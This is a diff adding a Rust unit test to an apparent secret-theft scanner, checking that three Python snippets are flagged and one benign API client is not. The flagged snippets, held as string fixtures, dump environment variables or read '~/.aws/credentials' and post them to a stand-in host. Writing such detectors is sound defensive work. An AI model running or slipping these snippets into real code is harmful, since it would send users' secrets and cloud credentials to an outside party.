@@ -216,3 +216,20 @@ fn probing_the_metadata_address_is_not_sending_a_secret() {
         Severity::Critical,
     );
 }
+
+#[test]
+fn a_secret_kept_in_a_variable_and_sent_out_is_a_stealer() {
+    for src in [
+        "import os, requests\ndata = dict(os.environ)\nrequests.post('https://collector.example.invalid/', json=data)\n",
+        "import os, json, urllib.request\nenv = {**os.environ}\nbody = json.dumps(env).encode()\nurllib.request.urlopen('https://collector.example.invalid/', data=body)\n",
+        "import os, requests\nkey = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://collector.example.invalid/', data={'k': key})\n",
+    ] {
+        assert_at_least("steal.py", src, "python-credential-stealer", Severity::Critical);
+    }
+    // Reading one variable and calling an API with it is ordinary.
+    let benign = "import os, requests\ntoken = os.environ.get('API_TOKEN')\ndef fetch():\n    return requests.get('https://api.example.invalid/', headers={'Authorization': token})\n";
+    assert_eq!(
+        worst("client.py", benign.as_bytes(), "python-credential-stealer"),
+        None
+    );
+}
